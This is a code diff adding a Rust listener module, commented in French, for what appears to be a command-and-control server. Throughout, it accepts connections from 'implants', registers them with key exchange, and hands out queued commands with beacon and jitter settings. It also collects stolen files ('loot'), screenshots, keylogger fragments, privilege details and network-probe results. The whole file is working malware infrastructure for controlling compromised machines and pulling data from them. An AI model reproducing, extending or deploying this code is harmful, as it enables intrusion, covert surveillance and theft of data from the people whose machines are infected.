@@ -0,0 +1,703 @@
+use std::net::SocketAddr;
+use std::sync::mpsc::Sender;
+use std::time::Duration;
+
+use axum::body::Bytes;
+use axum::extract::{ConnectInfo, DefaultBodyLimit, Path, State};
+use axum::http::StatusCode;
+use axum::routing::{get, post};
+use axum::{Json, Router};
+use rusqlite::{Connection, OptionalExtension, Result};
+use serde::{Deserialize, Serialize};
+use chrono::Utc;
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::net::{TcpListener, TcpStream};
+use tokio::sync::{mpsc, oneshot};
+use tokio::task::JoinHandle;
+use uuid::Uuid;
+
+use crate::events::AppEvent;
+use crate::sessions::{Session, Sessions};
+use crate::timefmt::now_timestamp;
+use crate::agent::{agent_from_row, Agent, AGENT_COLUMNS};
+use crate::crypto::{open_payload_text, set_agent_pubkey, set_session_key};
+use crate::db::{complete_task, connect, write_transaction};
+use crate::error::Error;
+use crate::keylog::store_keylog_chunk;
+use crate::loot::{is_download_task, store_download_base64, store_download_chunk, DownloadChunk};
+use crate::screenshots::{handle_screenshot_response, task_payload_type, PayloadType};
+use crate::sysinfo::record_sysinfo;
+use crate::topology::record_probe_results;
+use crate::transfers::{ack_upload_chunk, upload_chunk, upload_manifest, UploadManifest};
+use crate::checkins::record_checkin;
+use crate::transport::{server_handshake, FrameBuffer, Handshake, MAX_FRAME_LEN};
+
+// Un implant a ce délai pour l'échange de clés et sa trame d'enregistrement
+const REGISTRATION_TIMEOUT: Duration = Duration::from_secs(10);
+const MAX_REGISTRATION_LEN: usize = 4096;
+// Une capture plein écran en PNG dépasse souvent la limite de 2 Mo d'axum
+const MAX_SCREENSHOT_LEN: usize = 32 * 1024 * 1024;
+
+// Point d'écoute sur lequel les implants se connectent
+#[derive(Debug)]
+pub struct Listener {
+    pub id: i64,
+    pub name: String,
+    pub protocol: String,
+    pub bind_addr: String,
+    pub port: u16,
+    pub status: String,
+    pub started_at: Option<String>,
+    // Relancé à l'ouverture de l'interface
+    pub autostart: bool,
+}
+
+// Tâche d'écoute et son signal d'arrêt
+pub struct ListenerHandle {
+    shutdown: oneshot::Sender<()>,
+    task: JoinHandle<()>,
+}
+
+impl ListenerHandle {
+    // Ferme le socket d'écoute ; les sessions TCP déjà ouvertes continuent,
+    // les requêtes HTTP en cours vont à leur terme
+    pub fn stop(self) {
+        let _ = self.shutdown.send(());
+    }
+
+    // Vrai si l'écoute s'est arrêtée d'elle-même, par exemple port déjà pris
+    pub fn is_finished(&self) -> bool {
+        self.task.is_finished()
+    }
+}
+
+pub fn ensure_listeners_table(conn: &Connection) -> Result<()> {
+    conn.execute(
+        "CREATE TABLE IF NOT EXISTS listeners (
+            id INTEGER PRIMARY KEY AUTOINCREMENT,
+            protocol TEXT NOT NULL,
+            bind_addr TEXT NOT NULL,
+            port INTEGER NOT NULL,
+            status TEXT NOT NULL DEFAULT 'stopped'
+        )",
+        [],
+    )?;
+    Ok(())
+}
+
+// Nom, date de démarrage et démarrage automatique ; les listeners qui tournaient
+// avant la migration sont ceux que l'on relançait déjà à l'ouverture
+pub fn add_listener_profile_columns(conn: &Connection) -> Result<()> {
+    conn.execute("ALTER TABLE listeners ADD COLUMN name TEXT NOT NULL DEFAULT ''", [])?;
+    conn.execute("ALTER TABLE listeners ADD COLUMN started_at TEXT", [])?;
+    conn.execute("ALTER TABLE listeners ADD COLUMN autostart INTEGER NOT NULL DEFAULT 0", [])?;
+    conn.execute("UPDATE listeners SET name = protocol || '-' || port", [])?;
+    conn.execute("UPDATE listeners SET autostart = 1 WHERE status = 'running'", [])?;
+    Ok(())
+}
+
+pub fn load_listeners(conn: &Connection) -> Result<Vec<Listener>> {
+    let mut stmt = conn.prepare(
+        "SELECT id, name, protocol, bind_addr, port, status, started_at, autostart FROM listeners ORDER BY id"
+    )?;
+    let rows = stmt.query_map([], |row| {
+        Ok(Listener {
+            id: row.get(0)?,
+            name: row.get(1)?,
+            protocol: row.get(2)?,
+            bind_addr: row.get(3)?,
+            port: row.get(4)?,
+            status: row.get(5)?,
+            started_at: row.get(6)?,
+            autostart: row.get(7)?,
+        })
+    })?;
+    rows.collect()
+}
+
+pub fn create_listener(conn: &Connection, name: &str, protocol: &str, bind_addr: &str, port: u16) -> Result<i64> {
+    conn.execute(
+        "INSERT INTO listeners (name, protocol, bind_addr, port, status) VALUES (?1, ?2, ?3, ?4, 'stopped')",
+        (name, protocol, bind_addr, port),
+    )?;
+    Ok(conn.last_insert_rowid())
+}
+
+// Seul un listener arrêté peut être supprimé ; renvoie false sinon
+pub fn delete_listener(conn: &Connection, id: i64) -> Result<bool> {
+    let deleted = conn.execute("DELETE FROM listeners WHERE id = ?1 AND status = 'stopped'", [id])?;
+    Ok(deleted > 0)
+}
+
+pub fn set_autostart(conn: &Connection, id: i64, autostart: bool) -> Result<()> {
+    conn.execute("UPDATE listeners SET autostart = ?1 WHERE id = ?2", (autostart, id))?;
+    Ok(())
+}
+
+pub fn start_listener(conn: &Connection, id: i64) -> Result<()> {
+    conn.execute(
+        "UPDATE listeners SET status = 'running', started_at = ?1 WHERE id = ?2",
+        (now_timestamp(), id),
+    )?;
+    Ok(())
+}
+
+pub fn stop_listener(conn: &Connection, id: i64) -> Result<()> {
+    conn.execute("UPDATE listeners SET status = 'stopped', started_at = NULL WHERE id = ?1", [id])?;
+    Ok(())
+}
+
+// JSON envoyé par un implant à la connexion ; l'IP vue par le serveur sert de repli
+#[derive(Debug, Deserialize)]
+struct Registration {
+    id: String,
+    hostname: String,
+    ip: Option<String>,
+    os: Option<String>,
+}
+
+// Insère ou met à jour l'agent sans toucher à sa location
+fn register_agent(conn: &Connection, registration: &Registration, peer: SocketAddr) -> Result<Option<Agent>> {
+    let tx = write_transaction(conn)?;
+    let agent = upsert_agent(&tx, registration, peer)?;
+    tx.commit()?;
+    Ok(agent)
+}
+
+// Sans transaction propre : handle_connection y ajoute les clés de l'agent
+fn upsert_agent(conn: &Connection, registration: &Registration, peer: SocketAddr) -> Result<Option<Agent>> {
+    let ip = registration.ip.clone().unwrap_or_else(|| peer.ip().to_string());
+    conn.execute(
+        "INSERT INTO agents (id, hostname, ip, os, status, last_seen) VALUES (?1, ?2, ?3, ?4, 'online', ?5)
+         ON CONFLICT(id) DO UPDATE SET hostname = ?2, ip = ?3, os = ?4, last_seen = ?5, archived = 0,
+             status = CASE status WHEN 'terminating' THEN status ELSE 'online' END",
+        (&registration.id, &registration.hostname, ip, &registration.os, now_timestamp()),
+    )?;
+    record_checkin(conn, &registration.id)?;
+    let agent = conn
+        .query_row(&format!("SELECT {} FROM agents WHERE id = ?1", AGENT_COLUMNS), [&registration.id], agent_from_row)
+        .optional()?;
+    Ok(agent)
+}
+
+// Échange de clés puis première trame ; les octets lus au-delà restent dans frames
+async fn read_registration(
+    stream: &mut TcpStream,
+    frames: &mut FrameBuffer,
+) -> std::result::Result<(Registration, Handshake), String> {
+    let exchange = async {
+        let mut handshake = server_handshake(stream).await.map_err(|e| e.to_string())?;
+        let mut buf = [0u8; 1024];
+        let frame = loop {
+            if let Some(frame) = frames.next_frame(MAX_REGISTRATION_LEN).map_err(|e| e.to_string())? {
+                break frame;
+            }
+            match stream.read(&mut buf).await {
+                Ok(0) => return Err("connexion fermée avant l'enregistrement".to_string()),
+                Ok(n) => frames.push(&buf[..n]),
+                Err(e) => return Err(e.to_string()),
+            }
+        };
+        let json = handshake.cipher.open(frame).map_err(|e| e.to_string())?;
+        let registration = serde_json::from_slice(&json).map_err(|e| format!("enregistrement invalide : {}", e))?;
+        Ok((registration, handshake))
+    };
+    match tokio::time::timeout(REGISTRATION_TIMEOUT, exchange).await {
+        Ok(result) => result,
+        Err(_) => Err("délai d'enregistrement dépassé".to_string()),
+    }
+}
+
+async fn handle_connection(
+    mut stream: TcpStream,
+    peer: SocketAddr,
+    db_path: String,
+    tx: Sender<AppEvent>,
+    sessions: Sessions,
+) {
+    let mut frames = FrameBuffer::default();
+    let (registration, handshake) = match read_registration(&mut stream, &mut frames).await {
+        Ok(registered) => registered,
+        Err(error) => {
+            let _ = tx.send(AppEvent::ListenerError(format!("{} : {}", peer, error)));
+            return;
+        }
+    };
+    let Handshake { mut cipher, agent_public } = handshake;
+    let session_key = cipher.key_bytes().to_vec();
+    // L'agent et ses clés ensemble : jamais d'agent enregistré sans la clé de sa session
+    let registered = with_db(db_path, move |conn| {
+        let tx = write_transaction(conn)?;
+        let agent = upsert_agent(&tx, &registration, peer)?;
+        set_agent_pubkey(&tx, &registration.id, &agent_public, "x25519")?;
+        set_session_key(&tx, &registration.id, &session_key)?;
+        tx.commit()?;
+        Ok(agent)
+    });
+    let agent = match registered.await {
+        Ok(Some(agent)) => agent,
+        Ok(None) => return,
+        Err(e) => {
+            let _ = tx.send(AppEvent::ListenerError(format!("{} : {}", peer, e)));
+            return;
+        }
+    };
+
+    // La connexion reste ouverte : elle devient une session jusqu'à sa fermeture
+    let (session_tx, mut session_rx) = mpsc::channel::<Vec<u8>>(32);
+    let session = Session {
+        id: Uuid::new_v4(),
+        agent_id: agent.id.clone(),
+        remote_addr: peer,
+        connected_at: Utc::now(),
+        tx: session_tx,
+    };
+    let key = session.id.to_string();
+    sessions.insert(key.clone(), session);
+    let _ = tx.send(AppEvent::AgentConnected(agent));
+
+    let (mut read_half, mut write_half) = stream.into_split();
+    let mut buf = [0u8; 1024];
+    // Une trame illisible ferme la session : la suite des nonces est perdue
+    let mut failure = None;
+    'session: loop {
+        while let Some(frame) = frames.next_frame(MAX_FRAME_LEN).transpose() {
+            match frame.and_then(|frame| cipher.open(frame)) {
+                Ok(data) => {
+                    let _ = tx.send(AppEvent::SessionOutput { session_id: key.clone(), data });
+                }
+                Err(e) => {
+                    failure = Some(e);
+                    break 'session;
+                }
+            }
+        }
+        tokio::select! {
+            outgoing = session_rx.recv() => match outgoing {
+                Some(bytes) => {
+                    let frame = match cipher.seal(&bytes) {
+                        Ok(frame) => frame,
+                        Err(e) => {
+                            failure = Some(e);
+                            break;
+                        }
+                    };
+                    if write_half.write_all(&frame).await.is_err() {
+                        break;
+                    }
+                }
+                // Session retirée de la table : on ferme
+                None => break,
+            },
+            incoming = read_half.read(&mut buf) => match incoming {
+                Ok(0) | Err(_) => break,
+                Ok(n) => frames.push(&buf[..n]),
+            },
+        }
+    }
+    sessions.remove(&key);
+    if let Some(e) = failure {
+        let _ = tx.send(AppEvent::ListenerError(format!("{} : {}", peer, e)));
+    }
+}
+
+// rusqlite est bloquant : chaque accès part sur le pool dédié de tokio avec sa propre connexion
+async fn with_db<T, F>(db_path: String, f: F) -> std::result::Result<T, String>
+where
+    T: Send + 'static,
+    F: FnOnce(&Connection) -> Result<T> + Send + 'static,
+{
+    let result = tokio::task::spawn_blocking(move || {
+        f(&connect(&db_path)?)
+    })
+    .await;
+    match result {
+        Ok(result) => result.map_err(|e| e.to_string()),
+        Err(e) => Err(e.to_string()),
+    }
+}
+
+// Doit être appelée dans un runtime tokio ; stop() sur le handle ferme le socket d'écoute
+pub fn start_tcp_listener(addr: SocketAddr, db_path: &str, tx: Sender<AppEvent>, sessions: Sessions) -> ListenerHandle {
+    let db_path = db_path.to_string();
+    let (shutdown, mut stopped) = oneshot::channel();
+    let task = tokio::spawn(async move {
+        let listener = match TcpListener::bind(addr).await {
+            Ok(listener) => listener,
+            Err(e) => {
+                let _ = tx.send(AppEvent::ListenerError(format!("écoute sur {} impossible : {}", addr, e)));
+                return;
+            }
+        };
+        loop {
+            let accepted = tokio::select! {
+                accepted = listener.accept() => accepted,
+                _ = &mut stopped => return,
+            };
+            match accepted {
+                Ok((stream, peer)) => {
+                    tokio::spawn(handle_connection(stream, peer, db_path.clone(), tx.clone(), sessions.clone()));
+                }
+                Err(e) => {
+                    let _ = tx.send(AppEvent::ListenerError(format!("{} : {}", addr, e)));
+                }
+            }
+        }
+    });
+    ListenerHandle { shutdown, task }
+}
+
+#[derive(Clone)]
+struct HttpState {
+    db_path: String,
+    tx: Sender<AppEvent>,
+}
+
+#[derive(Debug, Serialize)]
+struct PendingCommand {
+    id: i64,
+    command: String,
+}
+
+// Réponse de /tasks : les tâches remises et le beacon en vigueur, que l'implant applique
+// même s'il n'a pas encore reçu la tâche set_beacon
+#[derive(Debug, Serialize)]
+struct TasksEnvelope {
+    beacon_interval_secs: u64,
+    jitter_pct: u8,
+    tasks: Vec<PendingCommand>,
+}
+
+#[derive(Debug, Serialize)]
+struct TaskOutput {
+    id: i64,
+    status: String,
+    output: Option<String>,
+}
+
+#[derive(Debug, Deserialize)]
+struct TaskResult {
+    output: String,
+    #[serde(default)]
+    failed: bool,
+}
+
+fn db_error(tx: &Sender<AppEvent>, error: String) -> StatusCode {
+    let _ = tx.send(AppEvent::ListenerError(error));
+    StatusCode::INTERNAL_SERVER_ERROR
+}
+
+async fn http_register(
+    State(state): State<HttpState>,
+    ConnectInfo(peer): ConnectInfo<SocketAddr>,
+    Json(registration): Json<Registration>,
+) -> std::result::Result<StatusCode, StatusCode> {
+    let result = with_db(state.db_path.clone(), move |conn| register_agent(conn, &registration, peer)).await;
+    match result {
+        Ok(Some(agent)) => {
+            let _ = state.tx.send(AppEvent::AgentConnected(agent));
+            Ok(StatusCode::CREATED)
+        }
+        Ok(None) => Err(StatusCode::INTERNAL_SERVER_ERROR),
+        Err(e) => Err(db_error(&state.tx, format!("{} : {}", peer, e))),
+    }
+}
+
+// Tâches en attente de l'agent, qui passent à l'état sent pour n'être remises qu'une fois
+// Deux relevés simultanés du même agent ne remettent pas deux fois la même tâche
+fn take_pending(conn: &Connection, agent_id: &str) -> Result<Vec<PendingCommand>> {
+    let tx = write_transaction(conn)?;
+    let commands = {
+        let mut stmt = tx.prepare("SELECT id, command FROM tasks WHERE agent_id = ?1 AND status = 'pending' ORDER BY id")?;
+        stmt.query_map([agent_id], |row| {
+            Ok(PendingCommand { id: row.get(0)?, command: open_payload_text(&tx, agent_id, row.get(1)?)? })
+        })?
+        .collect::<Result<Vec<_>>>()?
+    };
+    for command in &commands {
+        tx.execute("UPDATE tasks SET status = 'sent' WHERE id = ?1", [command.id])?;
+    }
+    tx.commit()?;
+    Ok(commands)
+}
+
+// Met à jour last_seen et remet les commandes en attente ; un agent archivé qui revient
+// reparaît dans la liste
+fn checkin(conn: &Connection, agent_id: &str) -> Result<Option<(Agent, Vec<PendingCommand>)>> {
+    let tx = write_transaction(conn)?;
+    let updated = tx.execute(
+        "UPDATE agents SET status = CASE status WHEN 'terminating' THEN status ELSE 'online' END, last_seen = ?1,
+                archived = 0
+         WHERE id = ?2",
+        (now_timestamp(), agent_id),
+    )?;
+    if updated == 0 {
+        return Ok(None);
+    }
+    record_checkin(&tx, agent_id)?;
+    tx.commit()?;
+    let agent = conn.query_row(
+        &format!("SELECT {} FROM agents WHERE id = ?1", AGENT_COLUMNS),
+        [agent_id],
+        agent_from_row,
+    )?;
+    let commands = take_pending(conn, agent_id)?;
+    Ok(Some((agent, commands)))
+}
+
+// Check-in avec la description complète de l'agent : enregistré s'il est inconnu,
+// les tâches sont ensuite relevées séparément sur /tasks
+async fn http_checkin_upsert(
+    State(state): State<HttpState>,
+    ConnectInfo(peer): ConnectInfo<SocketAddr>,
+    Json(registration): Json<Registration>,
+) -> StatusCode {
+    let result = with_db(state.db_path.clone(), move |conn| register_agent(conn, &registration, peer)).await;
+    match result {
+        Ok(Some(agent)) => {
+            let _ = state.tx.send(AppEvent::AgentCheckin(agent));
+            StatusCode::NO_CONTENT
+        }
+        Ok(None) => StatusCode::INTERNAL_SERVER_ERROR,
+        Err(e) => db_error(&state.tx, format!("{} : {}", peer, e)),
+    }
+}
+
+async fn http_pending_tasks(
+    State(state): State<HttpState>,
+    Path(agent_id): Path<String>,
+) -> std::result::Result<Json<TasksEnvelope>, StatusCode> {
+    let result = with_db(state.db_path.clone(), move |conn| {
+        let beacon: Option<(u64, u8)> = conn
+            .query_row(
+                "SELECT beacon_interval_secs, jitter_pct FROM agents WHERE id = ?1",
+                [&agent_id],
+                |row| Ok((row.get(0)?, row.get(1)?)),
+            )
+            .optional()?;
+        beacon
+            .map(|(beacon_interval_secs, jitter_pct)| {
+                let tasks = take_pending(conn, &agent_id)?;
+                Ok(TasksEnvelope { beacon_interval_secs, jitter_pct, tasks })
+            })
+            .transpose()
+    })
+    .await;
+    match result {
+        Ok(Some(envelope)) => Ok(Json(envelope)),
+        Ok(None) => Err(StatusCode::NOT_FOUND),
+        Err(e) => Err(db_error(&state.tx, e)),
+    }
+}
+
+async fn http_checkin(
+    State(state): State<HttpState>,
+    Path(agent_id): Path<String>,
+) -> std::result::Result<Json<Vec<PendingCommand>>, StatusCode> {
+    match with_db(state.db_path.clone(), move |conn| checkin(conn, &agent_id)).await {
+        Ok(Some((agent, commands))) => {
+            let _ = state.tx.send(AppEvent::AgentCheckin(agent));
+            Ok(Json(commands))
+        }
+        Ok(None) => Err(StatusCode::NOT_FOUND),
+        Err(e) => Err(db_error(&state.tx, e)),
+    }
+}
+
+async fn http_task(
+    State(state): State<HttpState>,
+    Path(command_id): Path<i64>,
+) -> std::result::Result<Json<TaskOutput>, StatusCode> {
+    let result = with_db(state.db_path.clone(), move |conn| {
+        conn.query_row(
+            "SELECT id, status, output, agent_id FROM tasks WHERE id = ?1",
+            [command_id],
+            |row| {
+                let agent_id: String = row.get(3)?;
+                let output = row.get::<_, Option<String>>(2)?.map(|o| open_payload_text(conn, &agent_id, o)).transpose()?;
+                Ok(TaskOutput { id: row.get(0)?, status: row.get(1)?, output })
+            },
+        )
+        .optional()
+    })
+    .await;
+    match result {
+        Ok(Some(task)) => Ok(Json(task)),
+        Ok(None) => Err(StatusCode::NOT_FOUND),
+        Err(e) => Err(db_error(&state.tx, e)),
+    }
+}
+
+// Dépôt du résultat par l'implant ; le thread de poll le remonte ensuite à l'interface
+async fn http_task_result(
+    State(state): State<HttpState>,
+    Path(command_id): Path<i64>,
+    Json(result): Json<TaskResult>,
+) -> StatusCode {
+    let updated = with_db(state.db_path.clone(), move |conn| {
+        // Une capture ne se rend que par /task/:id/screenshot, qui écrit elle-même le fichier :
+        // une sortie texte serait prise pour son chemin
+        if task_payload_type(conn, command_id)?.as_deref() == Some(PayloadType::Screenshot.as_str()) {
+            return Ok(Err(Error::Screenshot(format!("la tâche {} attend une image", command_id))));
+        }
+        // Fichier demandé par download : la sortie est son contenu en base64, rangé sous loot/
+        if !result.failed && is_download_task(conn, command_id)? {
+            return Ok(store_download_base64(conn, command_id, &result.output).map(|_| true));
+        }
+        let updated = complete_task(conn, command_id, &result.output, result.failed)?;
+        // Réponse à une sonde reach : les arêtes de la topologie sont tenues à jour ici
+        if updated && !result.failed {
+            record_probe_results(conn, command_id)?;
+        }
+        // Fiche sysinfo : os, hostname, compte et privilèges de l'agent sont réécrits
+        if updated && !result.failed && let Err(e) = record_sysinfo(conn, command_id) {
+            return Ok(Err(e));
+        }
+        Ok(Ok(updated))
+    })
+    .await;
+    match updated {
+        Ok(Ok(false)) | Ok(Err(Error::TaskNotFound(_))) => StatusCode::NOT_FOUND,
+        Ok(Ok(true)) => StatusCode::NO_CONTENT,
+        Ok(Err(Error::Download(_) | Error::Screenshot(_))) => StatusCode::BAD_REQUEST,
+        Ok(Err(e)) => db_error(&state.tx, e.to_string()),
+        Err(e) => db_error(&state.tx, e),
+    }
+}
+
+// Une tranche d'un fichier demandé par download, en JSON ; 204 tant que le fichier
+// n'est pas complet comme une fois recollé
+async fn http_download_chunk(
+    State(state): State<HttpState>,
+    Path(command_id): Path<i64>,
+    Json(chunk): Json<DownloadChunk>,
+) -> StatusCode {
+    let result = with_db(state.db_path.clone(), move |conn| {
+        Ok(store_download_chunk(conn, command_id, &chunk))
+    })
+    .await;
+    match result {
+        Ok(Ok(_)) => StatusCode::NO_CONTENT,
+        Ok(Err(Error::TaskNotFound(_))) => StatusCode::NOT_FOUND,
+        Ok(Err(Error::Download(_))) => StatusCode::BAD_REQUEST,
+        Ok(Err(e)) => db_error(&state.tx, e.to_string()),
+        Err(e) => db_error(&state.tx, e),
+    }
+}
+
+// Corps brut en image/png, le JSON de /results ne portant que du texte
+async fn http_screenshot(
+    State(state): State<HttpState>,
+    Path(command_id): Path<i64>,
+    body: Bytes,
+) -> StatusCode {
+    let result = with_db(state.db_path.clone(), move |conn| {
+        Ok(handle_screenshot_response(conn, command_id, &body))
+    })
+    .await;
+    match result {
+        Ok(Ok(_)) => StatusCode::NO_CONTENT,
+        Ok(Err(Error::TaskNotFound(_))) => StatusCode::NOT_FOUND,
+        Ok(Err(Error::Screenshot(_))) => StatusCode::BAD_REQUEST,
+        Ok(Err(e)) => db_error(&state.tx, e.to_string()),
+        Err(e) => db_error(&state.tx, e),
+    }
+}
+
+// Manifeste d'un envoi : l'implant reprend à next_seq
+async fn http_upload_manifest(
+    State(state): State<HttpState>,
+    Path(command_id): Path<i64>,
+) -> std::result::Result<Json<UploadManifest>, StatusCode> {
+    let result = with_db(state.db_path.clone(), move |conn| upload_manifest(conn, command_id)).await;
+    match result {
+        Ok(Some(manifest)) => Ok(Json(manifest)),
+        Ok(None) => Err(StatusCode::NOT_FOUND),
+        Err(e) => Err(db_error(&state.tx, e)),
+    }
+}
+
+// Octets bruts d'une tranche ; 404 une fois l'envoi terminé
+async fn http_upload_chunk(
+    State(state): State<HttpState>,
+    Path((command_id, seq)): Path<(i64, u64)>,
+) -> std::result::Result<Vec<u8>, StatusCode> {
+    let result = with_db(state.db_path.clone(), move |conn| upload_chunk(conn, command_id, seq)).await;
+    match result {
+        Ok(Some(data)) => Ok(data),
+        Ok(None) => Err(StatusCode::NOT_FOUND),
+        Err(e) => Err(db_error(&state.tx, e)),
+    }
+}
+
+async fn http_upload_ack(
+    State(state): State<HttpState>,
+    Path((command_id, seq)): Path<(i64, u64)>,
+) -> StatusCode {
+    let result = with_db(state.db_path.clone(), move |conn| Ok(ack_upload_chunk(conn, command_id, seq))).await;
+    match result {
+        Ok(Ok(_)) => StatusCode::NO_CONTENT,
+        Ok(Err(Error::TaskNotFound(_))) => StatusCode::NOT_FOUND,
+        Ok(Err(Error::Upload(_))) => StatusCode::CONFLICT,
+        Ok(Err(e)) => db_error(&state.tx, e.to_string()),
+        Err(e) => db_error(&state.tx, e),
+    }
+}
+
+// Corps texte brut, un fragment par requête ; le panneau Keylog le lit au tick suivant
+async fn http_keylog(
+    State(state): State<HttpState>,
+    Path(agent_id): Path<String>,
+    body: String,
+) -> StatusCode {
+    let result = with_db(state.db_path.clone(), move |conn| {
+        let known: Option<i64> = conn
+            .query_row("SELECT 1 FROM agents WHERE id = ?1", [&agent_id], |row| row.get(0))
+            .optional()?;
+        Ok(known.map(|_| store_keylog_chunk(conn, &agent_id, &body)))
+    })
+    .await;
+    match result {
+        Ok(Some(Ok(()))) => StatusCode::NO_CONTENT,
+        Ok(None) => StatusCode::NOT_FOUND,
+        Ok(Some(Err(e))) => db_error(&state.tx, e.to_string()),
+        Err(e) => db_error(&state.tx, e),
+    }
+}
+
+// Même contrat que start_tcp_listener, avec un canal HTTP sans session persistante
+pub fn start_http_listener(bind: SocketAddr, db_path: &str, tx: Sender<AppEvent>) -> ListenerHandle {
+    let state = HttpState { db_path: db_path.to_string(), tx: tx.clone() };
+    let router = Router::new()
+        .route("/register", post(http_register))
+        .route("/checkin", post(http_checkin_upsert))
+        .route("/checkin/:id", post(http_checkin))
+        .route("/tasks/:agent_id", get(http_pending_tasks))
+        .route("/task/:id", get(http_task).post(http_task_result))
+        .route("/results/:id", post(http_task_result))
+        .route("/task/:id/screenshot", post(http_screenshot).layer(DefaultBodyLimit::max(MAX_SCREENSHOT_LEN)))
+        .route("/task/:id/chunk", post(http_download_chunk))
+        .route("/task/:id/upload", get(http_upload_manifest))
+        .route("/task/:id/upload/:seq", get(http_upload_chunk))
+        .route("/task/:id/upload/:seq/ack", post(http_upload_ack))
+        .route("/keylog/:agent_id", post(http_keylog))
+        .with_state(state);
+    let (shutdown, stopped) = oneshot::channel::<()>();
+    let task = tokio::spawn(async move {
+        let listener = match TcpListener::bind(bind).await {
+            Ok(listener) => listener,
+            Err(e) => {
+                let _ = tx.send(AppEvent::ListenerError(format!("écoute sur {} impossible : {}", bind, e)));
+                return;
+            }
+        };
+        let service = router.into_make_service_with_connect_info::<SocketAddr>();
+        let serve = axum::serve(listener, service).with_graceful_shutdown(async {
+            let _ = stopped.await;
+        });
+        if let Err(e) = serve.await {
+            let _ = tx.send(AppEvent::ListenerError(format!("{} : {}", bind, e)));
+        }
+    });
+    ListenerHandle { shutdown, task }
+}